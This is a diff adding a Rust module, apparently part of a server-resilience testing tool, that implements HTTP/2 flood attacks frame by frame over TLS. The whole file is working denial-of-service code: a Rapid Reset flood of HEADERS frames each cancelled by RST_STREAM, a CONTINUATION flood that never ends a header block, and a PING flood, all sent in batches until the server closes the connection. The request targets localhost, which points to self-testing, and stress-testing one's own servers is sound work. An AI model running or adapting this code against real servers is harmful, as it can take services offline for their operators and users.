@@ -1,0 +1,86 @@
+//! HTTP/2 floods of `--hostile`, frame by frame (RFC 9113).
+
+use std::io::Result;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio_rustls::TlsConnector;
+
+use crate::attacks::Attack;
+use crate::wire;
+
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const CONTINUATION: u8 = 9;
+
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+/// CANCEL.
+const TAKEN_BACK: [u8; 4] = [0, 0, 0, 8];
+/// Frames that are sent at once.
+const PIECE: usize = 50;
+
+/// Floods one connection until the server ends it.
+pub(crate) async fn flood(attack: Attack, stream: TcpStream, tls: &TlsConnector) -> Result<()> {
+    let stream = tls.connect(wire::host()?, stream).await?;
+    let (mut read, mut write) = tokio::io::split(stream);
+    let listen = async {
+        let mut told = vec![0; 4096];
+        while let Ok(1..) = read.read(&mut told).await {}
+        Ok(())
+    };
+    let send = async {
+        write.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &first(attack)].concat()).await?;
+        for start in (0_u32..).step_by(PIECE) {
+            let piece: Vec<u8> = (start..).take(PIECE).flat_map(|n| nth(attack, n)).collect();
+            write.write_all(&piece).await?;
+            write.flush().await?;
+        }
+        Ok(())
+    };
+    tokio::select! {
+        ended = listen => ended,
+        failed = send => failed,
+    }
+}
+
+/// What a flood begins with.
+fn first(attack: Attack) -> Vec<u8> {
+    match attack {
+        Attack::Continuation => frame(HEADERS, END_STREAM, 1, &request()),
+        _ => Vec::new(),
+    }
+}
+
+/// What it sends for the n-th time.
+fn nth(attack: Attack, n: u32) -> Vec<u8> {
+    let stream = 2 * n + 1;
+    match attack {
+        Attack::RapidReset => {
+            let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request());
+            [request, frame(RST_STREAM, 0, stream, &TAKEN_BACK)].concat()
+        }
+        Attack::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
+        _ => frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
+    }
+}
+
+fn request() -> Vec<u8> {
+    block(&[(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/v1/time")])
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    // Our payloads are short.
+    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
+    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
+}
+
+/// Headers as literals without indexing (RFC 7541, section 6.2.2), each text shorter than 127 bytes.
+fn block(headers: &[(&str, &str)]) -> Vec<u8> {
+    let literal = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
+    headers.iter().flat_map(|(name, value)| [vec![0], literal(name), literal(value)].concat()).collect()
+}
